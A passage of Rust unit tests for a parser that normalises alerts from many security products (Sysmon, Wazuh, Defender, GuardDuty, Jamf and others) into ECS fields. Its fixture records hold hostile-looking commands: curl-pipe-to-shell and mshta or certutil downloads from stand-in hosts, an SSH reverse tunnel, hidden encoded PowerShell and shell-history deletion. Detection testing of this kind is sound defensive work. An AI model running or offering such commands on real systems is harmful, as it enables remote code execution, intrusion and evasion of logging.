        let n = from_json(json!({"_time": "1739961218", "event_id": "E13@@notable@@ee4f", "search_name": "Endpoint - X - Rule",
            "annotations.mitre_attack": ["T1059.004"], "dest": "MBP-1", "user": "CORP\\lchen",
            "process": "/bin/sh -c curl -sk https://x.example/m.sh", "process_name": "sh", "process_path": "/bin/sh", "process_id": "15502",
            "parent_process": "/Applications/Microsoft Excel.app/Contents/MacOS/Microsoft Excel", "parent_process_name": "Microsoft Excel",
            "parent_process_path": "/Applications/Microsoft Excel.app/Contents/MacOS/Microsoft Excel", "dest_os": "macOS 15.2", "dest_ip": "10.1.2.3"}), "x").unwrap();
        assert_eq!(n.id, "E13@@notable@@ee4f");
        assert_eq!(
            n.doc["host"]["os"]["type"], "macos",
            "from the asset's dest_os"
        );
        assert_eq!(
            n.doc["host"]["ip"], "10.1.2.3",
            "a process notable's dest_ip is the endpoint's"
        );
        assert!(n.doc.get("destination").is_none());
        // A network flow runs on the source; the destination is the remote side.
        let f = from_json(json!({"_time": "1739961218", "event_id": "E14@@notable@@aa", "process_name": "powershell.exe",
            "process_path": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "src": "WS-22", "src_ip": "10.0.0.22",
            "dest": "cdn.bad.example", "dest_ip": "203.0.113.9", "dest_port": "443", "user": "kim"}), "x").unwrap();
        assert_eq!(f.doc["host"]["name"], "WS-22");
        assert_eq!(f.doc["host"]["ip"], "10.0.0.22");
        assert_eq!(f.doc["destination"]["ip"], "203.0.113.9");
        assert_eq!(f.doc["destination"]["domain"], "cdn.bad.example");
        assert_eq!(f.doc["destination"]["port"], 443);
        assert_eq!(n.doc["host"]["os"]["name"], "macOS 15.2");
        assert_eq!(
            n.doc["process"]["command_line"],
            "/bin/sh -c curl -sk https://x.example/m.sh"
        );
        assert_eq!(n.doc["process"]["parent"]["name"], "Microsoft Excel");
        assert_eq!(n.doc["process"]["pid"], 15502);
        assert_eq!(n.doc["user"]["name"], "lchen");
        assert_eq!(n.doc["host"]["name"], "MBP-1");
        assert_eq!(n.doc["threat"]["technique"]["id"], json!(["T1059.004"]));
        assert_eq!(n.doc["splunk"]["search_name"], "Endpoint - X - Rule");
        // A correlation search's stats fields: `values(parent_process_name)` read as the plain name.
        let st = from_json(json!({"search_name": "Linux - SSH fan-out - Rule", "user": "svc", "process": "bash -c id",
            "values(parent_process_name)": ["sshd"], "dest": ["db-1", "db-2"]}), "x").unwrap();
        assert_eq!(st.doc["process"]["parent"]["name"], "sshd");
        // A network device's configuration session: the commands, the login's source, the
        // account's privilege level.
        let dev = from_json(json!({"search_name": "Network - Config Change - Rule", "dest": "rtr-1", "user": "cs",
            "privilege_level": "15", "src": "203.0.113.45", "command": ["interface Tunnel9", "no logging host 10.1.1.1"],
            "annotations.mitre_attack": ["T1059.008"]}), "x").unwrap();
        assert_eq!(
            dev.doc["process"]["command_line"],
            "interface Tunnel9\nno logging host 10.1.1.1"
        );
        assert_eq!(dev.doc["source"]["ip"], "203.0.113.45");
        assert_eq!(dev.doc["user"]["roles"], json!(["privilege 15"]));
        assert_eq!(dev.doc["host"]["name"], "rtr-1");
        assert_eq!(dev.doc["threat"]["technique"]["id"], json!(["T1059.008"]));
        // A search over raw Sysmon events: CIM's names beside the event's own.
        let sy = from_json(json!({"preview": false, "offset": 0, "result": {"_time": "2026-02-02T00:00:00.000+00:00",
            "host": "SQL-4", "EventCode": "1", "Image": "C:\\Windows\\System32\\cscript.exe", "CommandLine": "cscript.exe //NoLogo a.vbs",
            "ParentImage": "C:\\Program Files\\NSClient++\\nscp.exe", "ParentCommandLine": "nscp.exe service", "CurrentDirectory": "C:\\x\\",
            "User": "NT AUTHORITY\\SYSTEM", "process_name": "cscript.exe", "parent_process_name": "nscp.exe"}}), "x").unwrap();
        assert_eq!(
            sy.doc["process"]["command_line"],
            "cscript.exe //NoLogo a.vbs"
        );
        assert_eq!(
            sy.doc["process"]["executable"],
            "C:\\Windows\\System32\\cscript.exe"
        );
        assert_eq!(
            sy.doc["process"]["parent"]["executable"],
            "C:\\Program Files\\NSClient++\\nscp.exe"
        );
        assert_eq!(
            sy.doc["process"]["parent"]["command_line"],
            "nscp.exe service"
        );
        assert_eq!(sy.doc["process"]["working_directory"], "C:\\x\\");
        assert_eq!(sy.doc["user"]["name"], "SYSTEM");
        // A search over JSON events (eslogger): dotted and `{}` names nested back into the
        // event's shape; the row's host and user fill in what the event does not name.
        let es = from_json(json!({"preview": false, "result": {"host": "MBP-9", "user": "ew", "event_type": "9",
            "event.exec.target.executable.path": "/bin/bash", "event.exec.args{}": ["/bin/bash", "-c", "id"],
            "process.executable.path": "/bin/zsh"}}), "x").unwrap();
        assert_eq!(es.doc["process"]["executable"], "/bin/bash");
        assert_eq!(es.doc["process"]["args"], json!(["/bin/bash", "-c", "id"]));
        assert_eq!(es.doc["process"]["parent"]["executable"], "/bin/zsh");
        assert_eq!(es.doc["host"]["name"], "MBP-9");
        assert_eq!(es.doc["user"]["name"], "ew");
        // Sigma match: the event's fields, no EventID; the technique from the rule's tags.
        let g = from_json(json!({"alert_id": "a1", "rule": {"title": "OSACompile Run-Only Execution", "tags": ["attack.execution", "attack.t1059.002"]},
            "Computer": "MBA-1", "Image": "/usr/bin/osacompile", "CommandLine": "osacompile -x -e x -o /tmp/a.app", "User": "nd",
            "ParentImage": "/bin/bash"}), "x").unwrap();
        assert_eq!(g.doc["process"]["name"], "osacompile");
        assert_eq!(
            g.doc["host"]["os"]["type"], "linux",
            "a Unix path; the playbook reads macOS from other fields"
        );
        assert_eq!(g.doc["threat"]["technique"]["id"], json!(["T1059.002"]));
        let nested = from_json(json!({"alert_id": "a2", "rule": {"tags": ["attack.t1059.007"]},
            "event": {"host": "mba-2", "user": "kb", "Image": "/usr/bin/osascript", "CommandLine": "osascript -l JavaScript -e x"}}), "x").unwrap();
        assert_eq!(
            nested.doc["process"]["command_line"],
            "osascript -l JavaScript -e x"
        );
        assert_eq!(nested.doc["host"]["name"], "mba-2");
        assert_eq!(nested.doc["user"]["name"], "kb");
        // Defender AlertInfo + AlertEvidence
        let d = from_json(json!({"Timestamp": "2025-02-06T22:47:31Z", "AlertId": "da1", "Title": "t",
            "AttackTechniques": "[\"Protocol Tunneling (T1572)\", \"Command and Scripting Interpreter (T1059)\"]",
            "EntityType": "Process", "FileName": "ssh.exe", "FolderPath": "C:\\Windows\\System32\\OpenSSH\\ssh.exe",
            "ProcessCommandLine": "ssh.exe -N -R 4:127.0.0.1:3389 t@146.70.87.22", "AccountName": "m", "DeviceName": "WS-1"}), "x").unwrap();
        assert_eq!(d.doc["process"]["name"], "ssh.exe");
        assert_eq!(
            d.doc["threat"]["technique"]["id"],
            json!(["T1572", "T1059"])
        );
        // An alert's evidence rows exported together: one alert, the Process row with the
        // Machine row's host and the User row's account.
        let rows = json!([
            {"AlertId": "da9", "Title": "Run dialog", "EntityType": "Machine", "DeviceName": "ws-9.corp"},
            {"AlertId": "da9", "Title": "Run dialog", "EntityType": "User", "AccountName": "bs"},
            {"AlertId": "da9", "Title": "Run dialog", "EntityType": "Process", "FileName": "mshta.exe",
             "ProcessCommandLine": "mshta.exe https://x.top/c.mp4"},
            {"AlertId": "da9", "Title": "Run dialog", "EntityType": "Url", "RemoteUrl": "https://x.top/c.mp4"}]);
        let out = parse_text(&rows.to_string());
        assert_eq!(out.len(), 1);
        let a = out[0].as_ref().unwrap();
        assert_eq!(a.doc["process"]["name"], "mshta.exe");
        assert_eq!(a.doc["host"]["name"], "ws-9.corp");
        assert_eq!(a.doc["user"]["name"], "bs");
    }

    #[test]
    fn sysmon_for_linux_events_are_linux() {
        let a = from_json(json!({"EventID": 1, "Channel": "Linux-Sysmon/Operational", "Computer": "web-1",
            "Image": "/usr/bin/bash", "CommandLine": "bash -c id", "ParentImage": "/usr/sbin/nginx", "User": "www-data"}), "x").unwrap();
        assert_eq!(a.doc["host"]["os"]["type"], "linux");
        assert_eq!(a.doc["process"]["parent"]["name"], "nginx");
        assert_eq!(a.doc["user"]["name"], "www-data");
        let w = from_json(
            json!({"EventID": 1, "Image": "C:\\Windows\\System32\\cmd.exe"}),
            "x",
        )
        .unwrap();
        assert_eq!(w.doc["host"]["os"]["type"], "windows");
    }

    #[test]
    fn wazuh_windows_and_auditd_alerts_map_to_ecs() {
        let w = from_json(json!({"timestamp": "2026-10-05T10:21:33.123+0000", "id": "1759659693.22",
            "rule": {"id": "92005", "mitre": {"id": ["T1059.001"]}}, "agent": {"id": "003", "name": "WIN-FIN-07"},
            "data": {"win": {"system": {"eventID": "1", "channel": "Microsoft-Windows-Sysmon/Operational", "providerName": "Microsoft-Windows-Sysmon", "computer": "WIN-FIN-07.corp.local"},
              "eventdata": {"image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "commandLine": "powershell -nop -c iex $x", "user": "CORP\\jdoe",
                "parentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "processId": "6612"}}}}), "x").unwrap();
        assert_eq!(w.id, "1759659693.22");
        assert_eq!(
            w.doc["process"]["command_line"],
            "powershell -nop -c iex $x"
        );
        assert_eq!(w.doc["process"]["parent"]["name"], "EXCEL.EXE");
        assert_eq!(w.doc["process"]["pid"], 6612);
        assert_eq!(w.doc["user"]["name"], "jdoe");
        assert_eq!(w.doc["host"]["name"], "WIN-FIN-07.corp.local");
        assert_eq!(w.doc["host"]["os"]["type"], "windows");
        assert_eq!(w.doc["@timestamp"], "2026-10-05T10:21:33.123+0000");
        assert_eq!(w.doc["threat"]["technique"]["id"], json!(["T1059.001"]));
        assert_eq!(w.doc["rule"]["id"], "92005", "the Wazuh fields stay");
        // Wazuh writes backslashes twice; a UNC path keeps its two.
        let d = from_json(json!({"id": "1", "rule": {"id": "1"}, "agent": {"name": "W"},
            "data": {"win": {"system": {"eventID": "1"}, "eventdata": {"image": "C:\\\\Windows\\\\System32\\\\cmd.exe",
              "commandLine": "cmd /c \\\\\\\\srv\\\\share\\\\x.bat", "user": "NT AUTHORITY\\\\SYSTEM"}}}}), "x").unwrap();
        assert_eq!(
            d.doc["process"]["executable"],
            "C:\\Windows\\System32\\cmd.exe"
        );
        assert_eq!(
            d.doc["process"]["command_line"],
            "cmd /c \\\\srv\\share\\x.bat"
        );
        assert_eq!(d.doc["user"]["name"], "SYSTEM");
        // Its quotes come escaped too: read back in one pass with the backslashes.
        let q = from_json(json!({"id": "2", "rule": {"id": "1"}, "agent": {"name": "W"},
            "data": {"win": {"system": {"eventID": "1"}, "eventdata": {"image": "C:\\\\Windows\\\\x.exe",
              "commandLine": "\\\"C:\\\\Program Files\\\\a.exe\\\" -d \\\"C:\\\\dir\\\\\\\""}}}}), "x").unwrap();
        assert_eq!(
            q.doc["process"]["command_line"],
            "\"C:\\Program Files\\a.exe\" -d \"C:\\dir\\\""
        );

        let l = from_json(json!({"id": "1759662130.44", "rule": {"id": "80792"}, "agent": {"name": "web-02"},
            "data": {"audit": {"exe": "/usr/bin/bash", "command": "bash", "pid": "2291", "ppid": "2210", "uid": "33", "cwd": "/var/www",
              "execve": {"a0": "bash", "a1": "-c", "a10": "z", "a2": "id"}}}}), "x").unwrap();
        assert_eq!(
            l.doc["process"]["args"],
            json!(["bash", "-c", "id", "z"]),
            "a10 after a2"
        );
        assert_eq!(l.doc["process"]["executable"], "/usr/bin/bash");
        assert_eq!(l.doc["process"]["parent"]["pid"], 2210);
        assert_eq!(l.doc["user"]["id"], "33");
        assert_eq!(l.doc["host"]["name"], "web-02");
        assert_eq!(l.doc["host"]["os"]["type"], "linux");
        assert_eq!(l.id, "1759662130.44");
    }

    #[test]
    fn defender_advanced_hunting_rows_map_to_ecs() {
        let p = from_json(json!({"Timestamp": "2026-10-06T09:14:55Z", "DeviceId": "dev1", "DeviceName": "ws-hr-12", "ReportId": 1201,
            "FileName": "powershell.exe", "FolderPath": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", "ProcessId": 7712,
            "ProcessCommandLine": "powershell -enc AAAA", "AccountDomain": "corp", "AccountName": "svc-web",
            "InitiatingProcessFileName": "w3wp.exe", "InitiatingProcessFolderPath": "c:\\windows\\system32\\inetsrv\\w3wp.exe",
            "InitiatingProcessCommandLine": "w3wp.exe -ap DefaultAppPool", "InitiatingProcessId": 3300,
            "ProcessVersionInfoOriginalFileName": "PowerShell.EXE", "ProcessIntegrityLevel": "High"}), "x").unwrap();
        assert_eq!(p.id, "dev1:1201");
        assert_eq!(p.doc["process"]["integrity_level"], "High");
        assert_eq!(
            p.doc["process"]["pe"]["original_file_name"],
            "PowerShell.EXE"
        );
        assert_eq!(
            p.doc["process"]["executable"],
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "folder joined with the file"
        );
        assert_eq!(
            p.doc["process"]["parent"]["executable"], "c:\\windows\\system32\\inetsrv\\w3wp.exe",
            "already whole"
        );
        assert_eq!(p.doc["process"]["parent"]["pid"], 3300);
        assert_eq!(p.doc["user"]["name"], "svc-web");
        assert_eq!(p.doc["host"]["os"]["type"], "windows");
        // A network row: the acting process is the initiating one.
        let n = from_json(json!({"Timestamp": "2026-10-06T09:15:00Z", "DeviceName": "mbp-4", "ReportId": 9, "ActionType": "ConnectionSuccess",
            "RemoteIP": "45.9.148.3", "RemotePort": 443, "RemoteUrl": "cdn-check.example",
            "InitiatingProcessFileName": "osascript", "InitiatingProcessFolderPath": "/usr/bin/osascript",
            "InitiatingProcessCommandLine": "osascript -l JavaScript /tmp/a.js", "InitiatingProcessAccountName": "lena",
            "InitiatingProcessParentFileName": "bash"}), "x").unwrap();
        assert_eq!(n.doc["process"]["name"], "osascript");
        assert_eq!(
            n.doc["process"]["command_line"],
            "osascript -l JavaScript /tmp/a.js"
        );
        assert_eq!(n.doc["process"]["parent"]["name"], "bash");
        assert_eq!(n.doc["destination"]["ip"], "45.9.148.3");
        assert_eq!(n.doc["destination"]["port"], 443);
        assert_eq!(n.doc["destination"]["domain"], "cdn-check.example");
        assert_eq!(n.doc["user"]["name"], "lena");
    }

    #[test]
    fn image_loads_name_the_library_and_sysmon_rule_names_their_technique() {
        // Sysmon EID 7, with a sysmon-modular rule name.
        let s7 = from_json(json!({"EventID": 7, "Channel": "Microsoft-Windows-Sysmon/Operational", "Hostname": "WS-1",
            "RuleName": "technique_id=T1059.001,technique_name=PowerShell",
            "Image": "C:\\Windows\\System32\\rundll32.exe",
            "ImageLoaded": "C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Management.Automation.ni.dll"}), "x").unwrap();
        assert_eq!(s7.doc["process"]["name"], "rundll32.exe");
        assert_eq!(
            s7.doc["file"]["name"],
            "System.Management.Automation.ni.dll"
        );
        assert_eq!(s7.doc["event"]["action"], "ImageLoaded");
        assert_eq!(s7.doc["threat"]["technique"]["id"], json!(["T1059.001"]));
        // Defender's DeviceImageLoadEvents: the initiating process loaded FolderPath/FileName.
        let mde = from_json(json!({"DeviceName": "ws-2", "ActionType": "ImageLoaded",
            "FileName": "System.Management.Automation.ni.dll", "FolderPath": "C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\SMA",
            "InitiatingProcessFileName": "rundll32.exe", "InitiatingProcessFolderPath": "C:\\Windows\\System32\\rundll32.exe",
            "InitiatingProcessCommandLine": "rundll32.exe", "InitiatingProcessAccountName": "ann"}), "x").unwrap();
        assert_eq!(mde.doc["process"]["name"], "rundll32.exe");
        assert_eq!(
            mde.doc["file"]["path"],
            "C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\SMA\\System.Management.Automation.ni.dll"
        );
        assert_eq!(mde.doc["event"]["action"], "ImageLoaded");
    }

    #[test]
    fn laurel_task_mde_api_cron_and_raw_syslog_shapes_map_to_ecs() {
        // Laurel's auditd JSON: the arguments, the parent it saw, the names of the ids.
        let l = from_json(json!({"ID": "1731571501.314:228841", "HOSTNAME": "app-7",
            "SYSCALL": {"exe": "/usr/bin/dash", "comm": "sh", "pid": 22733, "ppid": 22731, "uid": 1002, "UID": "deploy", "AUID": "deploy",
                "PPID": {"comm": "cron", "exe": "/usr/sbin/cron"}},
            "EXECVE": {"argc": 3, "ARGV": ["sh", "-c", "echo aWQ= | base64 -d | sh"]}, "CWD": {"cwd": "/home/deploy"}}), "x").unwrap();
        assert_eq!(l.id, "1731571501.314:228841");
        assert_eq!(
            l.doc["process"]["command_line"],
            "sh -c 'echo aWQ= | base64 -d | sh'"
        );
        assert_eq!(l.doc["process"]["parent"]["name"], "cron");
        assert_eq!(l.doc["user"]["name"], "deploy");
        assert_eq!(l.doc["host"]["name"], "app-7");
        // A scheduled task registered (4698): its action is the command judged.
        let t = from_json(json!({"EventID": 4698, "Hostname": "WS-1", "SubjectUserName": "sv", "SubjectDomainName": "ACME",
            "TaskName": "\\OneDrive Reporting Task",
            "TaskContent": "<Task><Actions Context=\"Author\"><Exec><Command>C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe</Command><Arguments>-NoP -W Hidden -Enc SQBFAFgA &amp; x</Arguments></Exec></Actions></Task>"}), "x").unwrap();
        assert_eq!(
            t.doc["process"]["command_line"],
            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -NoP -W Hidden -Enc SQBFAFgA & x"
        );
        assert_eq!(t.doc["process"]["name"], "powershell.exe");
        assert_eq!(t.doc["event"]["action"], "scheduled-task-created");
        assert_eq!(t.doc["user"]["name"], "sv");
        // A service installed (7045): the command services.exe will start; %COMSPEC% is cmd.
        let sv = from_json(
            json!({"EventID": 7045, "Hostname": "SQL-2", "ServiceName": "c8d2e1f",
            "ImagePath": "%COMSPEC% /b /c start /b /min powershell -enc SQBFAFgA"}),
            "x",
        )
        .unwrap();
        assert_eq!(
            sv.doc["process"]["command_line"],
            "C:\\Windows\\System32\\cmd.exe /b /c start /b /min powershell -enc SQBFAFgA"
        );
        assert_eq!(sv.doc["process"]["name"], "cmd.exe");
        assert_eq!(sv.doc["process"]["parent"]["name"], "services.exe");
        assert_eq!(sv.doc["service"]["name"], "c8d2e1f");
        // Defender for Endpoint's own API: the newest process among the evidence.
        let m = from_json(json!({"id": "da1", "computerDnsName": "ws-7.acme.com", "title": "Suspicious certutil", "mitreTechniques": ["T1105"],
            "evidence": [
                {"entityType": "Process", "fileName": "wscript.exe", "filePath": "C:\\Windows\\System32", "processId": 10, "parentProcessId": 5,
                 "processCommandLine": "wscript.exe a.js"},
                {"entityType": "Process", "fileName": "certutil.exe", "filePath": "C:\\Windows\\System32", "processId": 11, "parentProcessId": 10,
                 "parentProcessFileName": "wscript.exe", "parentProcessFilePath": "C:\\Windows\\System32",
                 "processCommandLine": "certutil -urlcache -f http://x/y", "accountName": "lk", "domainName": "ACME"},
                {"entityType": "Ip", "ipAddress": "198.51.100.44"}]}), "x").unwrap();
        assert_eq!(m.id, "da1");
        assert_eq!(
            m.doc["process"]["executable"],
            "C:\\Windows\\System32\\certutil.exe"
        );
        assert_eq!(
            m.doc["process"]["parent"]["command_line"],
            "wscript.exe a.js"
        );
        assert_eq!(m.doc["user"]["name"], "lk");
        assert_eq!(m.doc["host"]["name"], "ws-7.acme.com");
        // Wazuh's cron decoder: the crontab's owner runs the command through sh -c.
        let c = from_json(
            json!({"id": "1", "rule": {"id": "100331"}, "agent": {"name": "web-3"},
            "decoder": {"name": "cron-cmd", "parent": "cron"},
            "data": {"dstuser": "www-data", "command": "curl -fsSL https://x/y | sh"}}),
            "x",
        )
        .unwrap();
        assert_eq!(
            c.doc["process"]["command_line"],
            "/bin/sh -c curl -fsSL https://x/y | sh"
        );
        assert_eq!(c.doc["process"]["parent"]["name"], "cron");
        assert_eq!(c.doc["user"]["name"], "www-data");
        // A raw auditd record as Splunk returns it, and Sysmon for Linux under Sentinel's Syslog table.
        let r = from_json(json!({"host": "api-2", "sourcetype": "linux:audit",
            "_raw": "type=SYSCALL msg=audit(1744983305.412:884213): arch=c000003e syscall=59 success=yes ppid=1 pid=2 uid=997 comm=\"bash\" exe=\"/usr/bin/bash\"\ntype=EXECVE msg=audit(1744983305.412:884213): argc=2 a0=\"bash\" a1=\"-i\""}), "x").unwrap();
        assert_eq!(r.doc["process"]["executable"], "/usr/bin/bash");
        let y = from_json(json!({"Type": "Syslog", "HostName": "cms-2",
            "SyslogMessage": "<Event><System><EventID>1</EventID><Computer>cms-2</Computer></System><EventData><Data Name=\"Image\">/usr/bin/dash</Data><Data Name=\"CommandLine\">sh -c id</Data><Data Name=\"ParentImage\">/usr/sbin/apache2</Data><Data Name=\"User\">www-data</Data></EventData></Event>"}), "x").unwrap();
        assert_eq!(y.doc["process"]["command_line"], "sh -c id");
        assert_eq!(y.doc["process"]["parent"]["name"], "apache2");
        let q = from_json(json!({"host": {"name": "ws-1"}, "message": "<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><EventID>1</EventID></System><EventData><Data Name='Image'>C:\\Windows\\System32\\wscript.exe</Data><Data Name='CommandLine'>wscript.exe a.js</Data></EventData></Event>"}), "x").unwrap();
        assert_eq!(
            q.doc["process"]["command_line"], "wscript.exe a.js",
            "single-quoted attributes"
        );
        // Filebeat's syslog input names the program that logged the line (`sysmon`) as the
        // process: the event in the line is what ran.
        let f = from_json(json!({"host": {"name": "web-1"}, "process": {"name": "sysmon", "pid": 812},
            "log": {"file": {"path": "/var/log/syslog"}},
            "message": "<Event><System><Provider Name=\"Linux-Sysmon\"/><EventID>1</EventID><Computer>web-1</Computer></System><EventData><Data Name=\"Image\">/usr/bin/bash</Data><Data Name=\"CommandLine\">bash -i</Data><Data Name=\"ParentImage\">/usr/sbin/apache2</Data><Data Name=\"User\">www-data</Data></EventData></Event>"}), "x").unwrap();
        assert_eq!(f.doc["process"]["command_line"], "bash -i");
        assert_eq!(f.doc["process"]["parent"]["name"], "apache2");
        // Jamf Protect's telemetry: numbered arguments, the exec chain's parent, the subject.
        let j = from_json(json!({"header": {"event_name": "AUE_EXECVE", "time_seconds_epoch": 1745834921},
            "exec_args": {"args": {"2": "-c", "1": "/bin/bash", "3": "curl -fsSL https://x/i.sh | sh"}},
            "exec_chain_child": {"parent_path": "/bin/zsh", "parent_pid": 40112}, "path": ["/bin/bash", "/bin/bash"],
            "subject": {"process_id": 40187, "effective_user_name": "ahmed", "effective_user_id": 501},
            "exec_env": {"env": {"PWD": "/Users/ahmed"}}, "host_info": {"host_name": "MBP-A", "host_uuid": "190545C0"}}), "x").unwrap();
        assert_eq!(j.id, "190545C0:40187:1745834921");
        assert_eq!(
            j.doc["process"]["command_line"],
            "/bin/bash -c 'curl -fsSL https://x/i.sh | sh'"
        );
        assert_eq!(j.doc["process"]["parent"]["name"], "zsh");
        assert_eq!(j.doc["user"]["name"], "ahmed");
        assert_eq!(j.doc["host"]["os"]["type"], "macos");
        // GuardDuty Runtime Monitoring (under EventBridge's `detail`): no command line, the lineage.
        let g = from_json(json!({"source": "aws.guardduty", "detail-type": "GuardDuty Finding", "detail": {
            "id": "gd-1", "type": "Execution:Runtime/ReverseShell", "title": "A reverse shell",
            "resource": {"instanceDetails": {"instanceId": "i-0e5a"}, "kubernetesDetails": {"kubernetesWorkloadDetails": {
                "name": "quote-1", "namespace": "pricing", "containers": [{"id": "ac28", "image": "ecr/quote:3"}]}}},
            "service": {"eventFirstSeen": "2025-04-29T22:41:17Z", "runtimeDetails": {"process": {"name": "bash", "executablePath": "/usr/bin/bash",
                "pwd": "/opt/q", "pid": 7, "user": "app", "euid": 10001,
                "lineage": [{"name": "sh", "executablePath": "/usr/bin/dash", "pid": 6}, {"name": "java", "executablePath": "/usr/bin/java", "pid": 1}]}}}}}), "x").unwrap();
        assert_eq!(g.id, "gd-1");
        assert_eq!(g.doc["process"]["executable"], "/usr/bin/bash");
        assert_eq!(g.doc["process"]["parent"]["name"], "dash");
        assert_eq!(g.doc["process"]["parent"]["parent"]["name"], "java");
        assert_eq!(g.doc["rule"]["name"], "Execution:Runtime/ReverseShell");
        assert_eq!(g.doc["host"]["name"], "i-0e5a");
        assert_eq!(g.doc["container"]["id"], "ac28");
        // A Datadog Workload Protection signal: argv0 and args, the parent's arguments.
        let d = from_json(json!({"data": {"id": "sig-1", "type": "signal", "attributes": {"timestamp": "2025-04-27T03:08:55Z",
            "tags": ["kube_namespace:edge", "pod_name:gw-1"], "attributes": {"host": "gke-node-1", "workflow": {"rule": {"name": "Shell history deleted"}},
                "process": {"pid": 9, "ppid": 8, "argv0": "rm", "args": ["-f", "/root/.bash_history"], "executable": {"path": "/bin/busybox"}, "user": "root", "uid": 0,
                    "parent": {"pid": 8, "comm": "sh", "args": ["-c", "unset HISTFILE; rm -f /root/.bash_history"]},
                    "ancestors": [{"pid": 8, "comm": "sh", "executable": {"path": "/bin/busybox"}}]}}}}}), "x").unwrap();
        assert_eq!(d.id, "sig-1");
        assert_eq!(
            d.doc["process"]["command_line"],
            "rm -f /root/.bash_history"
        );
        assert_eq!(
            d.doc["process"]["parent"]["command_line"],
            "sh -c 'unset HISTFILE; rm -f /root/.bash_history'"
        );
        assert_eq!(d.doc["process"]["parent"]["executable"], "/bin/busybox");
        assert_eq!(d.doc["orchestrator"]["namespace"], "edge");
        assert_eq!(d.doc["rule"]["name"], "Shell history deleted");
        // Santa's protobuf telemetry as JSON: bytes fields (the arguments) come base64-encoded.
        let t = from_json(json!({"machine_id": "F2A9", "event_time": "2025-10-17T22:08:41Z", "execution": {
            "instigator": {"id": {"pid": 10}, "executable": {"path": "/Volumes/Setup/Zoom Installer.app/Contents/MacOS/Zoom Installer"}},
            "target": {"id": {"pid": 11}, "executable": {"path": "/usr/bin/osascript"}, "effective_user": {"uid": 501, "name": "ssato"}},
            "args": ["b3Nhc2NyaXB0", "LWU=", "ZG8gc2hlbGwgc2NyaXB0ICJpZCI="], "working_directory": {"path": "/"}, "decision": "DECISION_ALLOW"}}), "x").unwrap();
        assert_eq!(
            t.doc["process"]["command_line"],
            "osascript -e 'do shell script \"id\"'"
        );
        assert_eq!(t.doc["process"]["parent"]["name"], "Zoom Installer");
        assert_eq!(t.doc["user"]["name"], "ssato");
        assert_eq!(t.id, "F2A9:2025-10-17T22:08:41Z:execution");
        // A Jamf Protect threat-prevention match carries its process whole; Laurel shipped by Filebeat.
        let jp = from_json(json!({"host": {"hostname": "MBP-4"}, "match": {"uuid": "m-9", "event": {"blocked": true, "matchType": "Threat Signature",
            "matchValue": "adload_daemon_f", "process": {"pid": 30, "uid": 501, "path": "/Users/l/Library/Application Support/.Esd/Esd", "args": ["Esd", "--daemon"]}},
            "facts": [{"name": "ThreatMatchExecEvent"}]}}), "x").unwrap();
        assert_eq!(
            jp.doc["process"]["executable"],
            "/Users/l/Library/Application Support/.Esd/Esd"
        );
        assert_eq!(jp.doc["threat"]["indicator"]["name"], "adload_daemon_f");
        assert_eq!(jp.doc["event"]["outcome"], "blocked");
        let fl = from_json(json!({"host": {"name": "app-4"}, "fields": {"log_type": "laurel"}, "laurel": {"ID": "1760313601.412:88213",
            "SYSCALL": {"exe": "/usr/bin/dash", "pid": 3, "uid": 1001, "UID": "deploy", "PPID": {"comm": "cron", "exe": "/usr/sbin/cron"}},
            "EXECVE": {"ARGV": ["/bin/sh", "-c", "id"]}}}), "x").unwrap();
        assert_eq!(fl.doc["process"]["parent"]["name"], "cron");
        assert_eq!(fl.doc["host"]["name"], "app-4");
        // A Falcon Data Replicator process start.
        let fdr = from_json(json!({"event_simpleName": "ProcessRollup2", "event_platform": "Mac", "id": "76054218", "timestamp": "1761922408000",
            "ImageFileName": "/usr/bin/curl", "CommandLine": "curl -fsSL https://x/install.sh", "ParentBaseFileName": "zsh",
            "RawProcessId": "15201", "UserName": "nkim", "UID": "501", "ComputerName": "MBP-8", "MachineDomain": "corp.example.org"}), "x").unwrap();
        assert_eq!(fdr.id, "76054218");
        assert_eq!(fdr.doc["host"]["domain"], "corp.example.org");
        assert_eq!(fdr.doc["process"]["parent"]["name"], "zsh");
        assert_eq!(fdr.doc["process"]["pid"], 15201);
        assert_eq!(fdr.doc["host"]["os"]["type"], "macos");
        // SentinelOne Deep Visibility from its dv/events API (camelCase): target started by source.
        let dv = from_json(json!({"agentName": "DEV-WS-044", "agentOs": "windows", "eventType": "Process Creation", "id": "18077",
            "tgtProcCmdLine": "cmd.exe /d /s /c \"node-gyp rebuild\"", "tgtProcImagePath": "C:\\Windows\\System32\\cmd.exe", "tgtProcPid": "18244",
            "srcProcCmdLine": "node.exe npm-cli.js install", "srcProcImagePath": "C:\\Program Files\\nodejs\\node.exe", "srcProcPid": "17020",
            "srcProcParentImagePath": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "tgtProcUser": "CONTOSO\\dchen"}), "x").unwrap();
        assert_eq!(dv.id, "18077");
        assert_eq!(dv.doc["process"]["name"], "cmd.exe");
        assert_eq!(dv.doc["process"]["pid"], 18244);
        assert_eq!(
            dv.doc["process"]["parent"]["command_line"],
            "node.exe npm-cli.js install"
        );
        assert_eq!(
            dv.doc["process"]["parent"]["parent"]["name"],
            "powershell.exe"
        );
        assert_eq!(dv.doc["user"]["name"], "dchen");
        // An SSH logon from the macOS unified log: an authentication event, not a process.
        let ssh = from_json(json!({"eventMessage": "Accepted keyboard-interactive/pam for itadmin from 10.22.14.201 port 53318 ssh2",
            "processImagePath": "/usr/libexec/sshd-session", "timestamp": "2025-11-10 01:37:12.418803-0800"}), "x").unwrap();
        assert_eq!(ssh.doc["event"]["category"], json!(["authentication"]));
        assert_eq!(ssh.doc["user"]["name"], "itadmin");
        assert_eq!(ssh.doc["source"]["ip"], "10.22.14.201");
        // A 4104 event rendered as text (a Graylog beats message).
